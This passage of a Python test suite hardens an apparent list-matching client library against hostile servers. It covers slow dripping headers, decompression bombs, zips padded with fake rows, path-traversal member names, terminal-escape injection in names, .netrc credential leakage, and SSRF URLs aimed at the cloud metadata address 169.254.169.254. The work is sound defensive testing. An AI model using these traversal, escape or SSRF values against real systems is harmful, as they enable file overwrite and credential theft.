    assert elapsed < 4


@attack(
    "a deliverable's status line and headers dripping one byte every 50 ms, with "
    "match(timeout=1.5) left and a read timeout of 30 s",
    "TransportError at the deadline (1.5 s + 0.5), nothing kept",
)
def test_dripping_deliverable_headers_end_at_the_deadline(serve: Any) -> None:
    server = serve(lambda conn: conn.drip_head(0.05))
    client = client_of(server, timeout=(5.0, 30.0))
    sink = io.BytesIO()
    error, elapsed, _ = measured(
        lambda: client.download(storage_url(server), sink=sink, filename="job.csv", time_limit=1.5)
    )
    assert isinstance(error, TransportError), error
    assert "time allowed" in str(error)
    assert "t0ps3cr3t" not in str(error)
    assert sink.getvalue() == b""
    assert 1.4 < elapsed < 2.0


@attack(
    "an upload target reading the 32 MiB CSV 1 KiB every 10 ms, with match(timeout=1.5) "
    "left and a read timeout of 30 s",
    "TransportError at the deadline (1.5 s + 0.5), however short each send (was: 90 s for "
    "timeout=30)",
)
def test_slow_reading_upload_target_ends_at_the_deadline() -> None:
    from smartmatch_pandas import clock

    with RawServer(lambda conn: conn.read_slowly(0.01), read_body=False) as server:
        client = client_of(server, timeout=(5.0, 30.0))
        body = b"x" * (32 * MiB)

        def upload() -> None:
            with client.within(clock.CLOCK.monotonic() + 1.5):
                client.upload(storage_url(server), body, filename="job.csv")

        error, elapsed, _ = measured(upload)
    assert isinstance(error, TransportError), error
    assert "upload to storage" in str(error)
    assert "time allowed" in str(error)
    assert 1.4 < elapsed < 2.0


@attack(
    "an upload target reading the CSV slower than MIN_TRANSFER_RATE (here 16 MiB/s), each "
    "send short of the read timeout, no timeout given",
    "TransportError once the body lags the rate: the grace of the connect and read timeouts "
    "plus the body's size at the rate (here 2 s + 2 s)",
)
def test_slow_reading_upload_target_without_deadline_is_given_up(monkeypatch: Any) -> None:
    from smartmatch_pandas.wire import http

    monkeypatch.setattr(http, "MIN_TRANSFER_RATE", 16 * MiB)  # 32 MiB: 2 s at that rate
    # About 6 MiB/s: each 1 MiB send ends within the read timeout, the whole body does not.
    with RawServer(lambda conn: conn.read_slowly(0.01, 64 * 1024), read_body=False) as server:
        client = client_of(server, timeout=(1.0, 1.0))
        error, elapsed, _ = measured(
            lambda: client.upload(storage_url(server), b"x" * (32 * MiB), filename="job.csv")
        )
    assert isinstance(error, TransportError), error
    assert "headers within 4 s" in str(error)
    assert 3.9 < elapsed < 5


@attack(
    "a whole match(timeout=2) whose upload target reads the CSV (a few MiB) 1 KiB every 10 ms",
    "TransportError by the deadline (2 s + 1), naming the job and the call that uploads it "
    "again; the registration and the upload count against the timeout too",
)
def test_match_timeout_bounds_the_upload(monkeypatch: Any) -> None:
    import pandas as pd

    import smartmatch_pandas as sm

    def answer(conn: Conn) -> None:
        if conn.request.head.startswith("PUT"):
            conn.read_slowly(0.01)
        else:
            fake_service(b"")(conn)

    monkeypatch.setenv("SMARTMATCH_SPILL_THRESHOLD", "1M")
    # 60,000 rows: a CSV of a few MiB, more than the sockets' buffers hold.
    frame = pd.DataFrame({"first_name": ["Ann"] * 60_000, "last_name": ["Lee"] * 60_000})
    frame["zip"] = [f"{k:05d}" for k in range(60_000)]
    with RawServer(answer, read_body=False) as server:
        start = time.perf_counter()
        with pytest.raises(TransportError, match="time allowed") as caught:
            sm.match(frame, api_key=KEY, base_url=server.url, progress=False, timeout=2)
        elapsed = time.perf_counter() - start
    filename = caught.value.filename
    assert filename is not None
    assert f"smartmatch_pandas.resume({filename!r}, df)" in str(caught.value)
    assert "not uploaded" in str(caught.value)
    assert elapsed < 3


# -- more rows than the options allow ------------------------------------------------------------


@attack(
    "a whole match of 2 rows with max_matches=2 whose deliverable adds 4,000,000 fake "
    "candidates (76 MiB of CSV in a zip of 0.3 MiB, within the download limit)",
    "DeliverableError naming the job: more rows than the options allow (2 additional), "
    "read no further than that; peak memory under 40 MiB (8 million took 2.7 GB)",
)
def test_more_candidates_than_the_options_allow_are_refused(serve: Any, monkeypatch: Any) -> None:
    import pandas as pd

    import smartmatch_pandas as sm

    monkeypatch.setenv("SMARTMATCH_SPILL_THRESHOLD", "16M")
    frame = pd.DataFrame({"first_name": ["Ann", "Bo"], "last_name": ["Lee", "Ray"]})
    frame["zip"] = ["02134", "10001"]
    header = b"matchback_id,first_name,last_name,zip,vb.voterbase_id\n"
    best = header + b"0,Ann,Lee,02134,X1\n1,,,,\n"
    data = _zip({"best.csv": best, "additional.csv": header + b"0,Ann,Lee,02134,X9\n" * 4_000_000})
    server = serve(fake_service(data))

    def run() -> None:
        sm.match(
            frame,
            api_key=KEY,
            base_url=server.url,
            poll_interval=0.1,
            progress=False,
            max_matches=2,
        )

    error, elapsed, peak = measured(run)
    assert isinstance(error, DeliverableError), error
    assert "more rows than the options allow" in str(error)
    assert "2 additional candidates" in str(error)
    assert error.filename is not None
    assert f"smartmatch_pandas.resume({error.filename!r}, df)" in str(error)
    assert peak < 40 * MiB, peak
    assert elapsed < 10


def test_candidates_within_the_options_are_read() -> None:
    from smartmatch_pandas.deliverable import RowAllowance

    header = b"matchback_id,vb.voterbase_id\n"
    data = _zip({"best.csv": RESULT, "more.csv": header + b"0,X2\n0,X3\n1,X4\n1,X5\n"})
    read = read_files(unpack_deliverable(data), allowance=RowAllowance(2, max_matches=3))
    assert read.additional is not None
    assert read.additional.num_rows == 4
    files = unpack_deliverable(
        _zip({"best.csv": RESULT, "more.csv": header + b"0,X2\n0,X3\n1,X4\n1,X5\n1,X6\n"})
    )
    with pytest.raises(DeliverableError, match="5 additional candidates"):
        read_files(files, allowance=RowAllowance(2, max_matches=3))


@attack(
    "a deliverable whose members are named `../../../victim.txt`, `/tmp/…` and with ESC]0;",
    "`result.files` keeps the raw names (documented as untrusted); nothing is written under "
    "them (the result cache stores them as values); `deliverable.safe_name` gives plain names",
)
def test_member_names_are_never_paths(serve: Any, tmp_path: Any, monkeypatch: Any) -> None:
    import pandas as pd

    import smartmatch_pandas as sm
    from smartmatch_pandas.deliverable import safe_name

    absolute = tmp_path / "abs_victim.txt"
    names = ["../../../victim.txt", str(absolute), "\x1b]0;owned\x07.txt"]
    best = b"matchback_id,first_name,last_name,zip,vb.voterbase_id\n0,Ann,Lee,02134,X1\n"
    data = _zip({"best.csv": best, **dict.fromkeys(names, b"a report\n")})
    deep = tmp_path / "a" / "b" / "c"
    deep.mkdir(parents=True)
    monkeypatch.chdir(deep)
    server = serve(fake_service(data))
    frame = pd.DataFrame({"first_name": ["Ann"], "last_name": ["Lee"], "zip": ["02134"]})
    job = sm.submit(frame, api_key=KEY, base_url=server.url, poll_interval=0.1, progress=False)
    result = job.wait().result()
    assert set(names) <= set(result.files)
    written = {p.name for p in tmp_path.rglob("*")}
    assert "victim.txt" not in written
    assert "abs_victim.txt" not in written
    assert [safe_name(name) for name in names] == ["victim.txt", "abs_victim.txt", "0_owned_.txt"]


@attack(
    "an SFTP drop holding, under the job's name, a gzip of 2 MiB that unpacks to 1 GiB",
    "spooled, then turned down by the same bomb budget as over HTTP, with a warning; peak "
    "memory under 80 MiB (was 4.5 GB: the whole file decompressed in memory); the check that "
    "the file is whole stops at that budget too (was: the whole GiB decompressed, 12 s)",
)
def test_sftp_gzip_bomb_is_turned_down_within_the_budget(sftp_service: Any) -> None:
    from smartmatch_pandas.job.vetting import DeliverableCheck
    from smartmatch_pandas.wire import sftp

    bomb = gzip.compress(b"\0" * (64 * MiB), compresslevel=9) * 16
    with nullcontext(sftp_service) as service:
        (service.drop_folder / "bomb_job.zip").write_bytes(bomb)
        settings = {**service.sftp_settings, "poll_interval": 0.2, "settle": 0.05}
        check = DeliverableCheck("bomb_job", rows=2)
        found: list[object] = []
        with pytest.warns(match="decompression bomb"):
            error, _, peak = measured(
                lambda: found.append(sftp.fetch_deliverable("bomb_job", vet=check, **settings))
            )
    assert error is None, error
    assert found == [None]
    assert peak < 80 * MiB, peak


# -- secrets a user hands over in an unexpected shape -----------------------------------------


@attack(
    'an API key read whole from a .env file: "TS_API_KEY=SECRET\\nOTHER=1"',
    "OptionError naming api_key before anything is sent, the key not shown (was: the key in "
    "full in a TransportError and on the CLI's stderr); whatever its shape, the client's "
    "own key is redacted from every error",
)
def test_an_api_key_with_a_line_break_is_refused_unsent(serve: Any) -> None:
    import pandas as pd

    import smartmatch_pandas as sm

    server = serve(fake_service(b""))
    frame = pd.DataFrame({"first_name": ["Ann"], "last_name": ["Lee"], "zip": ["02134"]})
    for key in ("TS_API_KEY=5ECRET-k3y\nOTHER=1", "5ECRET-k3y\twith-tab", "5ECRET k3y"):
        with pytest.raises(OptionError, match="api_key") as caught:
            sm.match(frame, api_key=key, base_url=server.url, progress=False)
        assert "5ECRET" not in str(caught.value)
        assert "strip" in str(caught.value)
    assert server.requests == []
    # A single trailing line break is stripped, as before.
    assert SmartMatchClient(api_key=KEY + "\n", base_url=server.url).key_fingerprint(b"s") == (
        SmartMatchClient(api_key=KEY, base_url=server.url).key_fingerprint(b"s")
    )
    # Whatever got through, a library's message quoting the key escaped is redacted.
    quoted = "Invalid leading whitespace in header value: 'TS_API_KEY=5ECRET-k3y\\nOTHER=1'"
    assert "5ECRET" not in redact(quoted)
    assert "5ECRET" not in redact('{"key": "TS_API_KEY=5ECRET-k3y\\nOTHER=1"}')


@attack(
    "a ~/.netrc with `machine 127.0.0.1` and a `default` login, and a service naming "
    "storage on the same host",
    "no request carries an Authorization header: not the API's, not storage's (was: all "
    "four sent the netrc login); proxies and CA bundles from the environment still apply",
)
def test_netrc_logins_are_never_sent(serve: Any, tmp_path: Any, monkeypatch: Any) -> None:
    netrc = tmp_path / ".netrc"
    netrc.write_text(
        "machine 127.0.0.1 login u password p\ndefault login d password dp\n", encoding="utf-8"
    )
    netrc.chmod(0o600)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("NETRC", raising=False)
    server = serve(fake_service(b"deliverable"))
    with client_of(server) as client:
        url = client.register({"filename": "job.csv"})
        client.upload(url, b"matchback_id\n0\n", filename="job.csv")
        polled = client.poll("job.csv").url
        assert polled is not None
        assert client.download(polled, filename="job.csv") == b"deliverable"
    assert len(server.requests) == 4
    assert all("authorization:" not in r.head.lower() for r in server.requests)


# -- an exchange the watchdog cut has no answer --------------------------------------------------


def _dripping(target: str) -> Callable[[Conn], None]:
    """The fake service, but the request whose head starts with ``target`` gets headers
    dripping one byte every 50 ms."""

    def answer(conn: Conn) -> None:
        if conn.request.head.startswith(target):
            conn.drip_head(0.05)
        else:
            fake_service(b"")(conn)

    return answer


@attack(
    "an upload target whose reply headers drip one byte every 50 ms in a whole match "
    "(timeouts of 1 s + 1 s)",
    "TransportError naming the job: registered but not uploaded, and the resume call (was: "
    "the cut head taken for `200`, the job recorded as uploaded, then a wrong error)",
)
def test_dripping_upload_headers_fail_the_upload(serve: Any, monkeypatch: Any) -> None:
    import pandas as pd

    import smartmatch_pandas as sm
    from smartmatch_pandas.wire import http

    monkeypatch.setattr(http, "TIMEOUT", (1.0, 1.0))
    server = serve(_dripping("PUT"))
    frame = pd.DataFrame({"first_name": ["Ann"], "last_name": ["Lee"], "zip": ["02134"]})
    with pytest.raises(TransportError, match="headers within 2 s") as caught:
        sm.match(frame, api_key=KEY, base_url=server.url, poll_interval=0.1, progress=False)
    filename = caught.value.filename
    assert "registered but not uploaded" in str(caught.value)
    assert f"smartmatch_pandas.resume({filename!r}, df)" in str(caught.value)
    assert not any("/poll?" in r.target for r in server.requests)


@attack(
    "poll answers whose headers drip one byte every 50 ms, in a match(timeout=2) whose "
    "read timeout is 120 s",
    "TransportError at the deadline, saying no poll was answered, and the resume call (was: "
    "JobTimeoutError, not ready within the timeout)",
)
def test_dripping_poll_headers_in_a_match_end_as_a_transport_error(serve: Any) -> None:
    import pandas as pd

    import smartmatch_pandas as sm

    server = serve(_dripping("GET /service/smartmatch/poll?"))
    frame = pd.DataFrame({"first_name": ["Ann"], "last_name": ["Lee"], "zip": ["02134"]})
    start = time.perf_counter()
    with pytest.raises(TransportError, match="no poll was answered before the timeout") as caught:
        sm.match(frame, api_key=KEY, base_url=server.url, progress=False, timeout=2)
    assert time.perf_counter() - start < 3
    filename = caught.value.filename
    assert f"smartmatch_pandas.resume({filename!r}, df)" in str(caught.value)


# -- settings read before anything is sent -------------------------------------------------------


@attack(
    "SMARTMATCH_DOWNLOAD_LIMIT=0, or SMARTMATCH_POLL_INTERVAL=inf, in the environment",
    "OptionError naming the variable before anything is sent (was: the job registered, "
    "uploaded and paid for, then its download refused; or a wait that never polls)",
)
@pytest.mark.parametrize(
    ("variable", "value"),
    [("SMARTMATCH_DOWNLOAD_LIMIT", "0"), ("SMARTMATCH_DOWNLOAD_LIMIT", "0G")]
    + [("SMARTMATCH_POLL_INTERVAL", value) for value in ("inf", "Infinity", "nan")],
)
def test_bad_environment_settings_are_refused_unsent(
    serve: Any, monkeypatch: Any, variable: str, value: str
) -> None:
    import pandas as pd

    import smartmatch_pandas as sm

    monkeypatch.setenv(variable, value)
    server = serve(fake_service(b""))
    frame = pd.DataFrame({"first_name": ["Ann"], "last_name": ["Lee"], "zip": ["02134"]})
    with pytest.raises(OptionError, match=f"{variable}={value!r}"):
        sm.match(frame, api_key=KEY, base_url=server.url, progress=False)
    assert server.requests == []


# -- URLs a service names, checked as they arrive ------------------------------------------------


def _naming(url: str, at: str) -> Callable[[Conn], None]:
    """The fake service, but its answer to ``at`` (registration or poll) names ``url``."""

    def answer(conn: Conn) -> None:
        target = conn.request.target
        is_poll = target.startswith("/service/smartmatch/poll?")
        is_registration = target.startswith("/service/smartmatch?")
        if (is_registration and at == "register") or (is_poll and at == "poll"):
            conn.answer(json.dumps({"url": url}).encode())
        else:
            fake_service(b"")(conn)

    return answer


_LONG_LABEL = "http://" + "a" * 70 + ".example/job.csv?sig=1"


@attack(
    "a registration or poll answer naming a URL whose host has a label of 70 characters",
    "ServiceError naming the job as the answer arrives, not retried, with the resume call "
    "(was: a raw urllib3 LocationParseError at upload, and the download retried 3 times as "
    "broken off)",
)
@pytest.mark.parametrize("at", ["register", "poll"])
def test_an_unusable_host_is_refused_as_it_arrives(serve: Any, at: str) -> None:
    import pandas as pd

    import smartmatch_pandas as sm

    server = serve(_naming(_LONG_LABEL, at))
    frame = pd.DataFrame({"first_name": ["Ann"], "last_name": ["Lee"], "zip": ["02134"]})
    with pytest.raises(ServiceError, match="cannot be looked up") as caught:
        sm.match(frame, api_key=KEY, base_url=server.url, poll_interval=0.1, progress=False)
    if at == "poll":  # a registration turned down this way is taken back: no job to resume
        filename = caught.value.filename
        assert f"smartmatch_pandas.resume({filename!r}, df)" in str(caught.value)
    assert "job 'sm_" in str(caught.value)
    polls = [r for r in server.requests if "/poll?" in r.target]
    assert len(polls) == (1 if at == "poll" else 0)
    assert not any(r.head.startswith("PUT") for r in server.requests) or at == "poll"
    # A URL kept from before, or from a webhook, is checked again before any request.
    with pytest.raises(ServiceError, match="cannot be looked up"):
        client_of(server).download(SecretURL(_LONG_LABEL), filename="job.csv")


@attack(
    "a registration answer naming a link-local upload URL (http://169.254.169.254/…, as "
    "a cloud's metadata endpoint), or 0.0.0.0, [::], [fe80::1], [::ffff:169.254.169.254], "
    "2852039166",
    "ServiceError naming the job, no contact data sent anywhere (was: the CSV PUT there); "
    "loopback stays allowed; no name is looked up",
)
@pytest.mark.parametrize(
    "host",
    ["169.254.169.254", "0.0.0.0", "[::]", "[fe80::1]", "[::ffff:169.254.169.254]", "2852039166"],
)
def test_a_link_local_upload_url_is_refused(serve: Any, host: str) -> None:
    import pandas as pd

    import smartmatch_pandas as sm
    from smartmatch_pandas.wire.webhook import callback_url

    url = f"http://{host}/latest/meta-data/job.csv?sig=1"
    server = serve(_naming(url, "register"))
    frame = pd.DataFrame({"first_name": ["Ann"], "last_name": ["Lee"], "zip": ["02134"]})
    with pytest.raises(ServiceError, match="not used") as caught:
        sm.match(frame, api_key=KEY, base_url=server.url, progress=False)
    assert "job 'sm_" in str(caught.value)
    assert "not registered" in str(caught.value)
    assert "sig=1" not in str(caught.value)
    assert [r.head.split(" ")[0] for r in server.requests] == ["GET"]
    assert callback_url(json.dumps({"callback": url}).encode()) is None
    assert callback_url(json.dumps({"callback": server.url + "dl?sig=1"}).encode()) is not None


# -- failures where nothing was sent -------------------------------------------------------------


@attack(
    "an https service on 127.0.0.1 whose certificate is self-signed (not trusted)",
    "UnreachableError: nothing was sent, no job record kept, REQUESTS_CA_BUNDLE suggested "
    "(was: the job kept as `registered`, 'may be registered… resume')",
)
def test_a_failed_certificate_check_sends_nothing(serve: Any, tmp_path: Any) -> None:
    import pandas as pd

    import smartmatch_pandas as sm
    from smartmatch_pandas.errors import UnreachableError

    context, _ = self_signed(tmp_path)
    server = RawServer(fake_service(b""), tls=context)
    frame = pd.DataFrame({"first_name": ["Ann"], "last_name": ["Lee"], "zip": ["02134"]})
    try:
        with pytest.raises(UnreachableError, match="nothing was sent") as caught:
            sm.match(frame, api_key=KEY, base_url=server.url, progress=False)
        with pytest.raises(UnreachableError, match="certificate"):
            client_of(server).download(SecretURL(server.url + "dl?sig=1"), filename="job.csv")
    finally:
        server.close()
    assert "REQUESTS_CA_BUNDLE" in str(caught.value)
    assert "may be registered" not in str(caught.value)
    assert server.requests == []
    assert sm.jobs().empty


def test_an_invalid_header_value_sends_nothing(serve: Any, monkeypatch: Any) -> None:
    from smartmatch_pandas.errors import UnreachableError

    server = serve(fake_service(b""))
    client = client_of(server)
    monkeypatch.setattr(client, "_api_key", "bad\nvalue")  # past resolve_api_key's check
    with pytest.raises(UnreachableError, match="nothing was sent") as caught:
        client.register({"filename": "job.csv"})
    assert "bad" not in str(caught.value)
    assert server.requests == []


# -- words -----------------------------------------------------------------------------------


@attack(
    "a download answered 302, an `error` of three spaces, a 429 whose Retry-After is an "
    "HTTP date, a reply head with a 70 KiB line or 150 headers",
    "said as they are: a redirect not followed; an error with no words; the wait the date "
    'asks; the answer malformed (was: "HTTP 302", "reported:     ", no wait, "could not '
    'reach")',
)
def test_odd_answers_are_said_as_they_are(serve: Any) -> None:
    redirect = serve(lambda conn: conn.answer(b"", "302 Found", Location="http://x.example/"))
    with pytest.raises(StorageError, match=r"redirect .*not followed"):
        client_of(redirect).download(storage_url(redirect), filename="job.csv")
    blank = serve(json_answer({"error": "   "}))
    with pytest.raises(ServiceError, match="an error but no words for it") as caught:
        client_of(blank).register({"filename": "job.csv"})
    assert "reported:" not in str(caught.value)
    later = email.utils.formatdate(time.time() + 120, usegmt=True)
    limited = serve(lambda conn: conn.answer(b"{}", "429 Too Many", Retry_After=later))
    with pytest.raises(RateLimitError) as refused:
        client_of(limited).poll("job.csv")
    assert refused.value.retry_after is not None
    assert 100 < refused.value.retry_after <= 120
    long_line = serve(lambda conn: conn.send(b"HTTP/1.1 200 OK\r\nX-A: " + b"a" * 70_000))
    many = serve(lambda conn: conn.send(b"HTTP/1.1 200 OK\r\n" + b"X-A: b\r\n" * 150 + b"\r\n"))
    for server in (long_line, many):
        with pytest.raises(TransportError, match="was malformed") as malformed:
            client_of(server).poll("job.csv")
        assert "could not reach" not in str(malformed.value)


def _frame_and_best(rows: int, ids: Callable[[int], int]) -> tuple[Any, bytes]:
    """A frame of ``rows`` people, and a best-match CSV echoing row ``i`` under the
    ``matchback_id`` ``ids(i)``, each matched to a voter of its own."""
    import pandas as pd

    frame = pd.DataFrame(
        {
            "first_name": [f"Ann{k}" for k in range(rows)],
            "last_name": [f"Lee{k}" for k in range(rows)],
            "zip": ["02134"] * rows,
        }
    )
    lines = ["matchback_id,first_name,last_name,zip,vb.voterbase_id,tsmart_match_code"]
    lines += [f"{ids(k)},ANN{k}, lee{k} ,02134,V{k},Y" for k in range(rows)]
    return frame, ("\n".join(lines) + "\n").encode()


@attack(
    "a deliverable whose rows are numbered from 1 (every `matchback_id` +1), or shuffled",
    "DeliverableError naming the job: the rows do not line up with the rows sent (the "
    "echoed columns compared with what was sent, case and spaces aside); not cached "
    "(was: each row silently got the next row's voter data)",
)
@pytest.mark.parametrize("order", ["shifted", "shuffled"])
def test_rows_that_do_not_line_up_are_refused(serve: Any, order: str) -> None:
    import random

    import smartmatch_pandas as sm

    shuffled = list(range(200))
    random.Random(7).shuffle(shuffled)
    ids = (lambda k: k + 1) if order == "shifted" else shuffled.__getitem__
    frame, best = _frame_and_best(200, ids)
    server = serve(fake_service(_zip({"best.csv": best})))
    with pytest.raises(DeliverableError, match="do not line up with the rows sent") as caught:
        sm.match(frame, api_key=KEY, base_url=server.url, poll_interval=0.1, progress=False)
    assert caught.value.filename is not None
    assert "resume" in str(caught.value)


def test_rows_echoed_in_another_case_and_spacing_line_up(serve: Any) -> None:
    import smartmatch_pandas as sm

    frame, best = _frame_and_best(50, lambda k: k)
    server = serve(fake_service(_zip({"best.csv": best})))
    result = sm.match(frame, api_key=KEY, base_url=server.url, poll_interval=0.1, progress=False)
    assert list(result["vb.voterbase_id"]) == [f"V{k}" for k in range(50)]


def test_rows_that_do_not_line_up_are_refused_in_a_file_too(serve: Any, tmp_path: Any) -> None:
    import smartmatch_pandas as sm

    frame, best = _frame_and_best(200, lambda k: k + 1)
    source = tmp_path / "list.csv"
    frame.to_csv(source, index=False)
    server = serve(fake_service(_zip({"best.csv": best})))
    with pytest.raises(DeliverableError, match="do not line up with the rows sent"):
        sm.match_file(
            source,
            tmp_path / "out.csv",
            api_key=KEY,
            base_url=server.url,
            poll_interval=0.1,
            progress=False,
        )
    assert not (tmp_path / "out.csv").exists()


def _with_surplus(rows: int, extra: int) -> tuple[Any, bytes]:
    """A frame and a deliverable giving row 0 ``extra`` additional candidates."""
    frame, best = _frame_and_best(rows, lambda k: k)
    lines = ["matchback_id,first_name,last_name,zip,vb.voterbase_id,tsmart_match_code"]
    lines += [f"0,Ann0,Lee0,02134,W{j},Y" for j in range(extra)]
    additional = ("\n".join(lines) + "\n").encode()
    return frame, _zip({"best.csv": best, "additional.csv": additional})


@attack(
    "a deliverable giving one row 900 additional candidates, with max_matches=3",
    "the row's first 3 candidates are kept (as the service ranked them), the 898 past them "
    "left out, with a warning that counts them (was: the row 901 times)",
)
def test_candidates_past_max_matches_are_left_out(serve: Any) -> None:
    import smartmatch_pandas as sm

    frame, data = _with_surplus(1000, 900)
    server = serve(fake_service(data))
    with pytest.warns(sm.SmartMatchWarning, match="the 898 past the first 3 of their row"):
        long = sm.match(
            frame,
            api_key=KEY,
            base_url=server.url,
            poll_interval=0.1,
            progress=False,
            max_matches=3,
            all_matches=True,
        )
    assert long["match_rank"].max() == 3
    assert list(long.loc[0, "vb.voterbase_id"]) == ["V0", "W0", "W1"]
    assert len(long) == 1002


def test_candidates_past_max_matches_are_left_out_of_a_file(serve: Any, tmp_path: Any) -> None:
    import pandas as pd

    import smartmatch_pandas as sm

    frame, data = _with_surplus(1000, 900)
    source = tmp_path / "list.csv"
    frame.to_csv(source, index=False)
    server = serve(fake_service(data))
    with pytest.warns(sm.SmartMatchWarning, match="the 898 past the first 3 of their row"):
        sm.match_file(
            source,
            tmp_path / "out.csv",
            api_key=KEY,
            base_url=server.url,
            poll_interval=0.1,
            progress=False,
            max_matches=3,
            all_matches=True,
        )
    written = pd.read_csv(tmp_path / "out.csv", dtype=str)
    assert list(written.loc[written["first_name"] == "Ann0", "vb.voterbase_id"]) == [
        "V0",
        "W0",
        "W1",
    ]
    assert len(written) == 1002


@attack(
    "a deliverable with a header and no rows, or 1 row of the 4,000 sent",
    "DeliverableError naming the job: it is missing most rows, where the service returns "
    "every row sent; not cached, so a new match asks again (was: a warning, and the broken "
    "result cached and returned again with no request); a few rows missing stay a warning",
)
@pytest.mark.parametrize("kept", [0, 1])
def test_a_deliverable_missing_most_rows_is_refused(serve: Any, kept: int) -> None:
    import smartmatch_pandas as sm

    rows = 4_000 if kept else 100
    frame, best = _frame_and_best(rows, lambda k: k)
    data = _zip({"best.csv": b"".join(best.splitlines(keepends=True)[: 1 + kept])})
    server = serve(fake_service(data))
    for _ in range(2):  # refused again: never cached
        with pytest.raises(DeliverableError, match=f"missing {rows - kept:,} of the {rows:,}"):
            sm.match(frame, api_key=KEY, base_url=server.url, poll_interval=0.1, progress=False)


@attack(
    "a deliverable naming a column `vb.x\\x1b[2J\\x1b]0;T\\x07` (terminal escapes), or ``",
    "DeliverableError naming the file and the column, escaped: malformed, not merged (was: "
    "the column in the frame as it was, and print(df) sent the escapes to the terminal)",
)
@pytest.mark.parametrize(
    ("column", "said"),
    [("vb.x\x1b[2J\x1b]0;T\x07", r"control characters ('vb.x\\x1b[2J\\x1b]0;T\\x07')"),
     ("", "an empty name"), ("vb.a\tb", "control characters")],
)  # fmt: skip
def test_column_names_with_control_characters_or_none_are_refused(column: str, said: str) -> None:
    best = f"matchback_id,first_name,{column}\n0,Ann,x\n".encode()
    with pytest.raises(DeliverableError) as caught:
        read_files({"best.csv": best}, filename="job_1")
    assert said in str(caught.value)
    assert "\x1b" not in str(caught.value)
    assert caught.value.filename == "job_1"


def test_a_deliverable_with_a_match_rank_column_keeps_it_apart(serve: Any) -> None:
    import smartmatch_pandas as sm

    frame, best = _frame_and_best(20, lambda k: k)
    lines = best.decode().splitlines()
    best = "\n".join([lines[0] + ",match_rank"] + [line + ",9" for line in lines[1:]]) + "\n"
    server = serve(fake_service(_zip({"best.csv": best.encode()})))
    with pytest.warns(sm.SmartMatchWarning, match="appended one is named 'match_rank_2'"):
        long = sm.match(
            frame,
            api_key=KEY,
            base_url=server.url,
            poll_interval=0.1,
            progress=False,
            max_matches=3,
            all_matches=True,
        )
    assert list(long["match_rank"]) == [1] * 20
    assert list(long["match_rank_2"]) == ["9"] * 20


def test_a_deliverable_missing_most_rows_is_refused_in_a_file_too(
    serve: Any, tmp_path: Any
) -> None:
    import smartmatch_pandas as sm

    frame, best = _frame_and_best(100, lambda k: k)
    source = tmp_path / "list.csv"
    frame.to_csv(source, index=False)
    server = serve(fake_service(_zip({"best.csv": best.splitlines(keepends=True)[0]})))
    with pytest.raises(DeliverableError, match="missing 100 of the 100 rows"):
        sm.match_file(
            source,
            tmp_path / "out.csv",
            api_key=KEY,
            base_url=server.url,
            poll_interval=0.1,
            progress=False,
        )
    assert not (tmp_path / "out.csv").exists()
